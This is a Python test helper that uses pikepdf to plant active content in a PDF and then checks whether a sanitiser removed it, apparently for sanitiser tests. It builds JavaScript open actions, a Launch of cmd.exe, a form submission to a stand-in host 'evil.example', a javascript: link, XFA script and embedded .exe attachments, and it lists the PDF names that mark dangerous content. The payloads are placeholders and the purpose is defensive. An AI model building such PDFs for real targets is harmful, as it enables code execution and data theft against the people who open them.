"""PDFs carrying active content and attachments, and a look for any of it left in a file."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('stolen cookie')"
PAYLOAD = b"MZ pretend executable"
# Names that mean code, files or data leaving: none may remain in a sanitised copy.
ACTIVE_NAMES = {
    "/JS",
    "/JavaScript",
    "/OpenAction",
    "/AA",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/Rendition",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/EF",
    "/FileAttachment",
    "/XFA",
}


def _js(pdf: pikepdf.Pdf) -> Any:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 10, 10], A=action)


def with_active_content(data: bytes) -> bytes:
    """``data`` with every kind of active content and attachment the sanitiser must remove."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root, page = pdf.Root, pdf.pages[0].obj
        root.OpenAction = _js(pdf)
        root.AA = Dictionary(WC=_js(pdf))
        root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), _js(pdf)])))
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename="p.exe")
        page.AA = Dictionary(O=_js(pdf))
        spec = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename="note.exe").obj
        actions = [
            Dictionary(S=Name.Launch, F=String("cmd.exe")),
            Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
            Dictionary(S=Name.ImportData, F=String("data.fdf")),
            Dictionary(S=Name.GoToR, F=String("other.pdf"), D=[0, Name.Fit]),
            Dictionary(S=Name.GoToE, D=[0, Name.Fit], T=Dictionary(R=Name.C, N=String("x"))),
            Dictionary(S=Name.Rendition, OP=0, JS=String(SCRIPT)),
            Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        ]
        annots = [pdf.make_indirect(_link(a)) for a in actions]
        annots.append(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=[0, 0, 10, 10],
                    FS=spec,
                    AA=Dictionary(E=_js(pdf)),
                )
            )
        )
        page.Annots = Array([*list(page.get("/Annots", Array())), *annots])
        form = root.get("/AcroForm")
        if form is None:
            root.AcroForm = form = Dictionary(Fields=Array())
        form.XFA = pdf.make_stream(b"<xdp:xdp><script>" + SCRIPT.encode() + b"</script></xdp:xdp>")
        for field in form.Fields:
            field.AA = Dictionary(K=_js(pdf))
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def active_parts(data: bytes) -> set[str]:
    """The active names, and the script or payload bytes, found anywhere in ``data``'s objects."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                content = obj.read_bytes()
                found |= {m for m in ("script", "payload") if _marks(content, m)}
                obj = obj.stream_dict
            if isinstance(obj, pikepdf.Dictionary):
                found |= _names_in(obj)
    return found


def _marks(content: bytes, mark: str) -> bool:
    return (SCRIPT.encode() if mark == "script" else PAYLOAD) in content


def _names_in(mapping: Any) -> set[str]:
    found: set[str] = set()
    for key in mapping:
        value = mapping[key]
        if key in ACTIVE_NAMES:
            found.add(key)
        if isinstance(value, Name) and str(value) in ACTIVE_NAMES:
            found.add(str(value))
        if isinstance(value, String) and SCRIPT in str(value):
            found.add("script")
        if isinstance(value, pikepdf.Dictionary) and not value.is_indirect:
            found |= _names_in(value)
        if isinstance(value, pikepdf.Array) and not value.is_indirect:
            for item in value:
                if isinstance(item, pikepdf.Dictionary) and not item.is_indirect:
                    found |= _names_in(item)
    return found
